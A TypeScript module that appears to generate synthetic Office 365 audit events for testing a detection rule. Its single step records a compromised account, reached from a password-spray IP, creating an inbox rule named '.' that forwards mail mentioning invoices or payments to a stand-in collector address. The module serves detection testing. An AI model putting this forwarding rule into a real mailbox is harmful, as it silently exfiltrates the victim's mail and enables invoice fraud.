import { cmdlet, unifiedAudit } from '../records/unified-audit.ts'
import type { Step } from './plot.ts'

/** Mail that speaks of invoices leaves the house. */
export const MAIL_STEPS: readonly Step[] = [
  {
    id: 'inbox-forward-rule',
    rule: 'o365.inbox-rule-forwards-mail',
    dataset: 'o365.audit',
    entity: ({ victim }) => victim.upn,
    act: ({ tenant, random, victim, sprayIp }, time) => {
      const id = random.guid()
      const rule = {
        AlwaysDeleteOutlookRulesBlob: 'False',
        Force: 'False',
        Name: '.',
        SubjectOrBodyContainsWords: 'invoice;payment',
        ForwardTo: 'collector@mail.example.net',
        StopProcessingRules: 'True',
      }
      const entry = { ...cmdlet(victim, 'New-InboxRule', `${victim.upn}\\.`, rule), ip: sprayIp, id }
      return [
        { stream: 'o365', time, eventIds: [id], write: (own) => unifiedAudit(tenant, own, time, entry) },
      ]
    },
  },
]
